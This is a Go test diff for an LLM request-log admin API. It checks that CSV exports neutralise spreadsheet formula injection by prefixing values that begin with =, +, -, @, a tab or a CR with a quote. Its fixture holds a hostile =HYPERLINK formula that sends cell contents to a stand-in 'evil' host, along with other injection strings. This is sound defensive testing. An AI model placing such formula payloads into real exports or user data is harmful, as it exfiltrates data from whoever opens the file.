@@ -357,3 +357,50 @@ func TestExportBoundedMemory(t *testing.T) {
 		t.Errorf("heap grew by %d MB while exporting", grew>>20)
 	}
 }
+
+// TestExportFormulaCells: text a caller chose (conversation and message
+// ids, model, user agent, error type and message) reaches the export with
+// a leading ' when it begins with = + - @ tab or CR, so a spreadsheet shows
+// it instead of running it; the numbers beside it stay numbers.
+func TestExportFormulaCells(t *testing.T) {
+	st := openStore(t)
+	ctx := context.Background()
+	u, _, err := st.EnsureUser(ctx, store.EnsureUserInput{ExternalID: "ext-evil", Name: "Eve"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	hostile := `=HYPERLINK("http://evil/?"&A1,"x")`
+	l := store.RequestLog{RequestID: "req-evil", UserID: u.ID, RequestType: "chat_completion", Method: "POST",
+		Endpoint: "/api/v1/chat/completions", Model: "+evil/model", Status: store.StatusError, StatusCode: 502,
+		ErrorType: "@upstream", ErrorMessage: "-1+1", UserAgent: "\t=1", ConversationID: hostile, MessageID: "\r=2",
+		RequestSize: 10, ResponseSize: 20, ProcessingTime: 30, Timestamp: time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC).UnixMilli()}
+	if _, err := st.Ingest(ctx, store.Batch{RequestLogs: []store.RequestLog{l}}); err != nil {
+		t.Fatal(err)
+	}
+	resp := post(t, server(t, st)+"/api/export/requestLogs", "llm_admin", `{"args": {}}`)
+	defer resp.Body.Close()
+	raw, err := io.ReadAll(resp.Body)
+	if err != nil || resp.StatusCode != 200 {
+		t.Fatalf("export: %d %v %s", resp.StatusCode, err, raw)
+	}
+	// Quoted as CSV quotes it, with the ' inside the quotes.
+	if !bytes.Contains(raw, []byte(`,"'=HYPERLINK(""http://evil/?""&A1,""x"")",`)) {
+		t.Errorf("conversation id not neutralised:\n%s", raw)
+	}
+	recs, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
+	if err != nil || len(recs) != 2 {
+		t.Fatalf("%v %q", err, recs)
+	}
+	got := map[string]string{}
+	for i, c := range adminapi.RequestLogColumns {
+		got[c] = recs[1][i]
+	}
+	want := map[string]string{"conversationId": "'" + hostile, "messageId": "'\r=2", "model": "'+evil/model", "errorType": "'@upstream",
+		"errorMessage": "'-1+1", "userAgent": "'\t=1", "requestId": "req-evil", "statusCode": "502", "requestSize": "10",
+		"responseSize": "20", "processingTimeMs": "30"}
+	for k, v := range want {
+		if got[k] != v {
+			t.Errorf("%s = %q, want %q", k, got[k], v)
+		}
+	}
+}
